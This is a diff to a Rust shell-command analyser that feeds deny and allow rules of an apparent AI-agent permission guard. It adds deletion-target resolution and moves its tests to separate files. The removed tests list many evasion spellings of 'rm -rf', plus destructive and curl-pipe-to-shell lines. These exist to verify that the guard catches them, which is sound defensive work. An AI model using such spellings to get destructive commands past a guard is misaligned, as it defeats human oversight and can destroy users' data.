@@ -7,6 +7,22 @@
 //! `zsh -c`, `dash -c` and `eval` (recursively, depth-bounded) — and turns each into a
 //! [`Segment`] ([`segment`]): quotes removed, whitespace collapsed, wrappers peeled.
 //!
+//! What pack rules rely on (issue 27), each a generous text (deny and ask only):
+//!
+//! - **feeders** expose the command they run as a segment: `xargs` (every option spelling),
+//!   GNU `parallel` (its template is shell text, run per `:::` argument), `find -exec/-execdir/
+//!   -ok/-okdir`, `fd -x`, `busybox <applet>`, `env -S/-P/-/-i/-u`;
+//! - **inline code** of python, node/deno/bun, ruby, perl, php and awk is read for what it runs
+//!   ([`segment::code`]): a shell-out's literal argument is a script, a deletion is the `rm`
+//!   it amounts to; a string only printed is not a command;
+//! - **options in their normal form** for `rm`, `git`, `chmod`, `chown`, `chgrp` (full long
+//!   names, clusters split, abbreviations expanded, git's global options dropped; `rm -rf`
+//!   for any recursive forced `rm`);
+//! - **deletion targets resolved** against the call's `cwd` ([`targets`], [`analyse_in`]):
+//!   `@rm-target <recursive|plain|find> <cwd|temp|outside|unknown> <path>`;
+//! - **SQL fed to a client** (`echo 'DROP TABLE t' | psql`, `psql <<EOF`) is the client
+//!   given it as an argument (`psql -c DROP TABLE t`).
+//!
 //! A command that does not parse, or exceeds a cap, is *unparseable*: it is never covered by
 //! allow rules, and deny rules still see it through a coarse split of its raw text at the
 //! shell's operator characters ([`fallback_segments`]), so a parse failure cannot hide a
@@ -14,6 +30,7 @@
 
 mod parse;
 pub mod segment;
+pub mod targets;
 
 pub use segment::Segment;
 
@@ -101,13 +118,29 @@ pub fn terminal_interpreters(command: &str) -> Vec<String> {
     out
 }
 
-/// Parse `command` and list its segments.
+/// Parse `command` and list its segments, its deletion targets read in no known place
+/// ([`analyse_in`]).
 pub fn analyse(command: &str) -> Analysis {
+    analyse_in(command, crate::paths::Places::default())
+}
+
+/// Parse `command` and list its segments; each `rm` and deleting `find` also gets its
+/// targets resolved in `places` ([`targets`]: `@rm-target …` texts).
+pub fn analyse_in(command: &str, places: crate::paths::Places) -> Analysis {
     let mut analysis = match parse::simple_commands(command) {
-        Ok(commands) => Analysis {
-            segments: commands.iter().map(segment::segment_of).collect(),
-            unparseable: None,
-        },
+        Ok(commands) => {
+            let mut segments: Vec<Segment> = commands.iter().map(segment::segment_of).collect();
+            for (segment, texts) in segments
+                .iter_mut()
+                .zip(targets::target_texts(&commands, places))
+            {
+                segment.generous.extend(texts);
+            }
+            Analysis {
+                segments,
+                unparseable: None,
+            }
+        }
         Err(why) => Analysis {
             segments: fallback_segments(command),
             unparseable: Some(why),
@@ -202,13 +235,23 @@ pub fn fallback_segments(command: &str) -> Vec<Segment> {
 /// Analyses of the texts of one call, each computed once (a command field is looked at by
 /// deny, author and allow matchers alike).
 #[derive(Default)]
-pub struct AnalysisCache {
+pub struct AnalysisCache<'p> {
+    /// Where the call happens: deletion targets are resolved there.
+    places: crate::paths::Places<'p>,
     entries: Vec<(String, Analysis)>,
     /// Texts of the path and domain views, per view and field text.
     views: Vec<(crate::policy::MatchOn, String, Vec<String>)>,
 }
 
-impl AnalysisCache {
+impl<'p> AnalysisCache<'p> {
+    /// A cache for one call made in `places`.
+    pub fn new(places: crate::paths::Places<'p>) -> Self {
+        AnalysisCache {
+            places,
+            ..AnalysisCache::default()
+        }
+    }
+
     /// The texts a path or domain view offers for `text` ([`crate::paths::path_texts`],
     /// [`crate::paths::command_path_texts`], [`crate::web::host_texts`]), made once per call:
     /// they cost system calls (symlinks are resolved). Other views offer none.
@@ -246,7 +289,8 @@ impl AnalysisCache {
         let index = match self.entries.iter().position(|(t, _)| t == text) {
             Some(i) => i,
             None => {
-                self.entries.push((text.to_string(), analyse(text)));
+                self.entries
+                    .push((text.to_string(), analyse_in(text, self.places)));
                 self.entries.len() - 1
             }
         };
@@ -255,419 +299,7 @@ impl AnalysisCache {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
+mod feeder_tests;
 
-    /// The first generous text of each segment (the segment as written, normalised).
-    fn segments(command: &str) -> Vec<String> {
-        let a = analyse(command);
-        assert!(a.unparseable.is_none(), "{command:?}: {:?}", a.unparseable);
-        a.segments.iter().map(|s| s.generous[0].clone()).collect()
-    }
-
-    fn strict(command: &str) -> Vec<Vec<String>> {
-        analyse(command)
-            .segments
-            .into_iter()
-            .map(|s| s.strict)
-            .collect()
-    }
-
-    #[test]
-    fn splits_at_every_operator() {
-        for (command, expected) in [
-            ("git status && rm -rf /", vec!["git status", "rm -rf /"]),
-            ("git push;", vec!["git push"]),
-            ("git push&&echo ok", vec!["git push", "echo ok"]),
-            ("git push|cat", vec!["git push", "cat"]),
-            ("git push |& cat", vec!["git push", "cat"]),
-            ("(git push)", vec!["git push"]),
-            ("{ git push; }", vec!["git push"]),
-            ("echo $(git push)", vec!["git push", "echo $(git push)"]),
-            ("echo `git push`", vec!["git push", "echo `git push`"]),
-            ("git  push", vec!["git push"]),
-            ("git\tpush", vec!["git push"]),
-            ("a & b\nc || d", vec!["a", "b", "c", "d"]),
-            (
-                "diff <(ls a) >(wc)",
-                vec!["ls a", "wc", "diff <(ls a) >(wc)"],
-            ),
-            (
-                "if true; then rm x; elif y; then z; else w; fi",
-                vec!["true", "rm x", "y", "z", "w"],
-            ),
-            (
-                "while read l; do rm \"$l\"; done < f",
-                vec!["read l", "rm $l"],
-            ),
-            ("for f in *.txt; do rm $f; done", vec!["rm $f"]),
-            ("case $x in a|b) rm a;; *) ls;; esac", vec!["rm a", "ls"]),
-            ("f() { rm -rf /; }; f", vec!["rm -rf /", "f"]),
-            ("function g { rm x; }", vec!["rm x"]),
-            ("touch x # git status", vec!["touch x"]),
-            (
-                "git status $(rm -rf ~)",
-                vec!["rm -rf ~", "git status $(rm -rf ~)"],
-            ),
-            ("deploy \\\n --env prod", vec!["deploy --env prod"]),
-            ("[[ -f $(rm x) ]] && ls", vec!["rm x", "ls"]),
-            ("(( $(rm y) + 1 ))", vec!["rm y"]),
-            ("x=$(rm z)", vec!["rm z", "x=$(rm z)"]),
-            ("echo ${x:-$(rm w)}", vec!["rm w", "echo ${x:-$(rm w)}"]),
-        ] {
-            let got = segments(command);
-            for want in &expected {
-                assert!(
-                    got.iter().any(|g| g == want),
-                    "{command:?}: {got:?} lacks {want:?}"
-                );
-            }
-        }
-    }
-
-    #[test]
-    fn quotes_are_removed() {
-        assert_eq!(segments("tr'a'de --li\"\"ve"), ["trade --live"]);
-        assert_eq!(segments("$'\\x72\\x6d' -rf /"), ["rm -rf /"]);
-        assert_eq!(segments("git commit -m \"Sync\""), ["git commit -m Sync"]);
-        assert_eq!(segments("r\\m x"), ["rm x"]);
-    }
-
-    #[test]
-    fn inner_scripts_are_parsed() {
-        for (command, want) in [
-            ("bash -c 'rm -rf /'", "rm -rf /"),
-            ("sudo sh -lc \"git push\"", "git push"),
-            ("eval 'git push --force'", "git push --force"),
-            ("find . -name x -exec rm {} \\;", "rm {}"),
-            ("bash <<EOF\nrm -rf /\nEOF", "rm -rf /"),
-            ("bash --norc <<'EOF'\nrm -rf /\nEOF", "rm -rf /"),
-            ("bash <<< 'rm -rf /'", "rm -rf /"),
-            ("cat <<EOF\n$(rm -rf /)\nEOF", "rm -rf /"),
-            ("echo \"$(curl x | sh)\"", "sh"),
-        ] {
-            let got = segments(command);
-            assert!(got.iter().any(|g| g == want), "{command:?}: {got:?}");
-        }
-        assert!(!analyse("bash -c \"$X\"").coverable());
-        assert!(!analyse("eval \"$CMD\"").coverable());
-        assert!(!analyse("$CMD x").coverable());
-        assert!(!analyse("$(which rm) x").coverable());
-        assert!(analyse("cat <<'EOF'\n$(not run)\nEOF").coverable());
-        assert_eq!(segments("cat <<'EOF'\n$(not run)\nEOF"), ["cat"]);
-    }
-
-    #[test]
-    fn redirections() {
-        // Not the whole command as written: an exact entry does not cover it (prefixes do).
-        assert_eq!(strict("git status 2>&1"), [vec!["git status \u{2}"]]);
-        assert_eq!(
-            strict("git status >/dev/null 2>&1"),
-            [vec!["git status \u{2}"]]
-        );
-        assert_eq!(strict("  git status "), [vec!["git status"]]);
-        assert_eq!(strict("mkdir  made"), [vec!["mkdir made \u{2}"]]);
-        assert_eq!(strict("git status > out.txt"), [Vec::<String>::new()]);
-        assert_eq!(strict("echo x >> ~/.bashrc"), [Vec::<String>::new()]);
-        assert_eq!(strict("{ ls; } > f"), [Vec::<String>::new()]);
-        let a = analyse("ls > f");
-        assert!(a.generous_texts().any(|t| t == "ls >f"), "{a:?}");
-    }
-
-    #[test]
-    fn unparseable() {
-        for command in [
-            "git push \"unterminated",
-            "echo $(",
-            "if true; then",
-            "a && ",
-            "| b",
-            "echo )",
-        ] {
-            let a = analyse(command);
-            assert!(a.unparseable.is_some(), "{command:?}: {a:?}");
-            assert!(!a.coverable());
-        }
-        let a = analyse("git push \"unterminated");
-        assert!(
-            a.generous_texts().any(|t| t.starts_with("git push")),
-            "{a:?}"
-        );
-        // Over a cap, the tail is still seen by denies.
-        let padded = "a;".repeat(MAX_SEGMENTS + 10) + "git push --force";
-        let a = analyse(&padded);
-        assert!(a.unparseable.is_some());
-        assert!(
-            a.generous_texts().any(|t| t == "git push --force"),
-            "{}",
-            a.segments.len()
-        );
-        let long = format!("echo {} ; rm -rf /", "x".repeat(2 * MAX_COMMAND_BYTES));
-        assert!(analyse(&long).generous_texts().any(|t| t == "rm -rf /"));
-        let deep = "$(".repeat(100) + &")".repeat(100);
-        assert!(analyse(&deep).unparseable.unwrap().contains("deeper"));
-        let long = "a ".repeat(MAX_COMMAND_BYTES);
-        assert!(analyse(&long).unparseable.unwrap().contains("longer"));
-    }
-
-    /// Hostile shapes (some took another parser exponential time or overflowed its stack): each
-    /// ends quickly, parsed or unparseable, never a hang or a crash.
-    #[test]
-    fn hostile_input_is_bounded() {
-        let cases = [
-            "(".repeat(10_000),
-            "$(".repeat(10_000),
-            "{ ".repeat(10_000),
-            "if true; then ".repeat(2_000),
-            "${a:-".repeat(10_000),
-            "`".repeat(10_001),
-            "[".repeat(60_000),
-            "a && ".repeat(10_000) + "a",
-            "a | ".repeat(10_000) + "a",
-            "\"$x".repeat(10_000),
-            "cat <<E\n".repeat(5_000),
-            "'".to_string() + &"x".repeat(60_000),
-            "echo $'".to_string() + &"\\x41".repeat(10_000),
-            "$((".repeat(10_000),
-            "a=(".repeat(10_000),
-            "case x in ".repeat(5_000),
-            "bash -c '".repeat(3_000),
-        ];
-        for command in &cases {
-            let started = std::time::Instant::now();
-            let analysis = analyse(command);
-            assert!(analysis.segments.len() <= MAX_SEGMENTS * 4);
-            // Generous: a debug build on a loaded machine; the point is "not a hang".
-            assert!(
-                started.elapsed() < std::time::Duration::from_secs(5),
-                "{}…: {:?}",
-                &command[..20.min(command.len())],
-                started.elapsed()
-            );
-        }
-        assert!(analyse(&"a && ".repeat(2_000)).unparseable.is_some());
-        assert!(
-            analyse(&("a; ".repeat(MAX_SEGMENTS + 1)))
-                .unparseable
-                .unwrap()
-                .contains("simple commands")
-        );
-    }
-
-    /// Does a `Bash(rm -rf:*)` deny see `rm -rf` in `command` (a generous text starting
-    /// with it, as the Claude pattern reads it)?
-    fn sees_rm_rf(command: &str) -> bool {
-        let a = analyse(command);
-        a.generous_texts()
-            .any(|t| t == "rm -rf" || t.starts_with("rm -rf ") || t.starts_with("rm -rf\n"))
-    }
-
-    /// Issue 26's spellings: text fed to a shell, wrappers, expansions. Each is seen as
-    /// the `rm -rf X` it runs, or (not literal) marked unresolvable.
-    #[test]
-    fn text_fed_to_a_shell_is_read() {
-        let mut hidden = Vec::new();
-        for command in [
-            "echo 'rm -rf X' | sh",
-            "echo rm -rf X | bash",
-            "echo -e 'true\\nrm -rf X' | dash",
-            "printf 'rm -rf X' | bash",
-            "printf '%s\\n' 'rm -rf X' | bash -s",
-            "printf 'rm -rf %s\\n' X | sh -",
-            "cat <<EOF | bash\nrm -rf X\nEOF",
-            "cat <<'EOF' | sh\nrm -rf X\nEOF",
-            "cat <<< 'rm -rf X' | sh",
-            "echo 'rm -rf X' | sudo bash",
-            "echo 'rm -rf X' | busybox sh",
-            "echo 'rm -rf X' | bash /dev/stdin",
-            "echo 'rm -rf X' | env LC_ALL=C bash --norc",
-            "bash <<< 'rm -rf X'",
-            "bash -s <<'EOF'\nrm -rf X\nEOF",
-            "trap 'rm -rf X' EXIT",
-            "trap -- 'rm -rf X' EXIT INT",
-            "BASH_ENV=<(echo 'rm -rf X') bash -c true",
-            "env BASH_ENV=<(echo 'rm -rf X') bash -c true",
-            "ENV=<(echo 'rm -rf X') sh -c true",
-            "bash <(echo 'rm -rf X')",
-            "source <(echo 'rm -rf X')",
-            ". <(printf 'rm -rf X')",
-            "bash --rcfile <(echo 'rm -rf X') -i",
-            "tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='rm -rf X'",
-            "tar -cf a.tar x --checkpoint-action exec='rm -rf X'",
-            "tar -xf a.tar --to-command='rm -rf X'",
-            "tar -I 'rm -rf X' -xf a.tar",
-            "tar --use-compress-program='rm -rf X' -xf a.tar",
-            "rsync -e 'rm -rf X' a b:c",
-            "rsync --rsh='rm -rf X' a b:c",
-            "git -c core.sshCommand='rm -rf X' fetch",
-            "git -c core.pager='rm -rf X' log",
-            "git -c alias.x='!rm -rf X' x",
-            "make --eval='x:;rm -rf X' x",
-            "make -E 'x:;rm -rf X' x",
-            "flock /tmp/lock rm -rf X",
-            "flock -n -w 5 /tmp/lock rm -rf X",
-            "flock /tmp/lock -c 'rm -rf X'",
-            "strace -o /dev/null rm -rf X",
-            "strace -f -e trace=file -o /dev/null rm -rf X",
-            "ltrace -o /dev/null rm -rf X",
-            "fakeroot rm -rf X",
-            "fakeroot -- rm -rf X",
-            "chroot / rm -rf X",
-            "chroot --userspec=1:1 / rm -rf X",
-            "unshare -r rm -rf X",
-            "unshare --map-user=0 -m rm -rf X",
-            "systemd-run --user --scope -p MemoryMax=1G rm -rf X",
-            "setsid rm -rf X",
-            "stdbuf -o0 rm -rf X",
-            "ionice -c2 -n7 rm -rf X",
-            "taskset -c 1 rm -rf X",
-            "taskset 0x1 rm -rf X",
-            "doas -u root rm -rf X",
-            "su -c 'rm -rf X'",
-            "su root -c 'rm -rf X'",
-            "runuser -u nobody -- rm -rf X",
-            "runuser -c 'rm -rf X' nobody",
-            "nsenter -t 1 -m rm -rf X",
-            "firejail --quiet rm -rf X",
-            "proot -r / rm -rf X",
-            "valgrind --tool=none rm -rf X",
-            "time rm -rf X",
-            "command rm -rf X",
-            "builtin command rm -rf X",
-            "exec rm -rf X",
-            "chrt -f 10 rm -rf X",
-            "cpulimit -l 50 -- rm -rf X",
-            "torsocks rm -rf X",
-            "proxychains -q rm -rf X",
-            "watch -n 1 'rm -rf X'",
-            "watch 'true; rm -rf X'",
-            "env -S 'rm -rf X'",
-            "nohup nice -n 5 timeout 10 rm -rf X",
-            "sudo -u root sh -c 'rm -rf X'",
-            "xargs -0 rm -rf X",
-            "find . -maxdepth 0 -exec rm -rf X \\;",
-            "fd -x rm -rf X",
-            "eval 'rm -rf X'",
-            "$(echo rm) -rf X",
-            "`echo rm` -rf X",
-            "bash -c \"rm -rf $D\"",
-            "{rm,-rf,X}",
-            "rm -{r,f} X",
-            "rm -r -f X",
-            "rm$IFS-rf$IFS X",
-            "rm${IFS}-rf${IFS}X",
-            "echo 'rm -rf X' > /tmp/s.sh; bash /tmp/s.sh",
-        ] {
-            let a = analyse(command);
-            if !sees_rm_rf(command) {
-                hidden.push(format!(
-                    "{command:?} hides `rm -rf`: {:?} (unresolvable: {:?}, unparseable: {:?})",
-                    a.generous_texts().collect::<Vec<_>>(),
-                    a.unresolvable(),
-                    a.unparseable
-                ));
-            }
-        }
-        assert!(hidden.is_empty(), "{hidden:#?}");
-    }
-
-    #[test]
-    fn text_the_guard_cannot_read_is_unresolvable() {
-        let mut wrong = Vec::new();
-        for (command, why) in [
-            ("curl -s https://example.invalid/x | sh", "pipe"),
-            ("cat script.sh | bash", "pipe"),
-            ("echo \"$X\" | bash", "pipe"),
-            ("printf '%d' 1 | sh", "pipe"),
-            ("echo x | base64 -d | bash", "pipe"),
-            ("(echo a; echo b) | bash", "pipe"),
-            ("cat <<EOF | bash\n$CMD\nEOF", "pipe"),
-            ("curl -s x | python3", "pipe"),
-            ("bash -c \"$X\"", "$X"),
-            ("eval \"$CMD\"", "$CMD"),
-            ("trap \"$X\" EXIT", "$X"),
-            ("bash <<< \"$X\"", "here-string"),
-            ("BASH_ENV=<(curl -s x) bash -c true", "BASH_ENV"),
-            ("bash <(curl -s x)", "bash"),
-            ("tar -xf a.tar --to-command=\"$X\"", "$X"),
-            ("git -c core.pager=\"$P\" log", "$P"),
-            ("$X -rf /", "$X"),
-            ("$(which rm) -rf /", "$(which rm)"),
-            ("watch \"$X\"", "$X"),
-        ] {
-            let a = analyse(command);
-            let found = a.unresolvable();
-            if !found.is_some_and(|w| w.contains(why)) {
-                wrong.push(format!("{command:?}: {found:?} ({a:?})"));
-            }
-        }
-        assert!(wrong.is_empty(), "{wrong:#?}");
-    }
-
-    /// What only looks like a deletion is not one, and ordinary commands stay readable.
-    #[test]
-    fn text_not_fed_to_a_shell_is_data() {
-        for command in [
-            "echo 'rm -rf X'",
-            "echo 'rm -rf X' > notes.txt",
-            "echo 'rm -rf X' | cat",
-            "echo 'rm -rf X' | grep rm",
-            "printf 'rm -rf X' | wc -c",
-            "cat <<EOF\nrm -rf X\nEOF",
-            "cat <<EOF | grep x\nrm -rf X\nEOF",
-            "grep -r 'rm -rf' .",
-            "git commit -m 'rm -rf X'",
-            "trap 'rm -rf X'",
-            "trap - EXIT",
-            "ls {a,b}",
-            "echo '{rm,-rf,X}'",
-            "make -j4",
-            "tar -xf a.tar",
-            "git -c user.name='rm -rf X' log",
-        ] {
-            assert!(!sees_rm_rf(command), "{command:?}: {:?}", analyse(command));
-        }
-        for command in [
-            "echo 'print(1)' | python3",
-            "git log | head",
-            "ls -la | grep x",
-            "cat file | jq .",
-            "bash script.sh",
-            "sh -c 'ls'",
-            "~/bin/tool x",
-            "./configure --prefix=/usr",
-            "find . -name '*.rs' -exec wc -l {} +",
-            "x=$(date); echo $x",
-            "echo {1..3}",
-            "git status",
-            "trap \"rm -f $tmp\" EXIT",
-            "rsync -e \"ssh -p $port\" a b:c",
-            "cal | perl -anE'print'",
-            "$(echo hello)",
-        ] {
-            let a = analyse(command);
-            assert!(a.unresolvable().is_none(), "{command:?}: {a:?}");
-        }
-        // `python -c "print('rm -rf /')"` only prints: its string literal is read for deny
-        // and ask (deny-only, generously, by design), never as a command to cover, and the
-        // command is not unresolvable.
-        let a = analyse("python3 -c \"print('rm -rf /')\"");
-        assert!(
-            a.segments
-                .iter()
-                .all(|s| !s.generous.iter().any(|t| t == "rm -rf /") || s.deny_only),
-            "{a:?}"
-        );
-        assert!(a.unresolvable().is_none());
-        // Beyond the cap, a brace expansion is not followed: unresolvable.
-        let wide = format!("rm {}", "{a,b}".repeat(12));
-        assert!(analyse(&wide).unresolvable().is_some());
-    }
-
-    #[test]
-    fn sentinel_never_inside_a_segment() {
-        let a = analyse("echo $'\\x01'git status");
-        assert!(!a.coverable());
-        assert!(a.generous_texts().all(|t| !t.contains(SEGMENT_START)));
-    }
-}
+#[cfg(test)]
+mod tests;
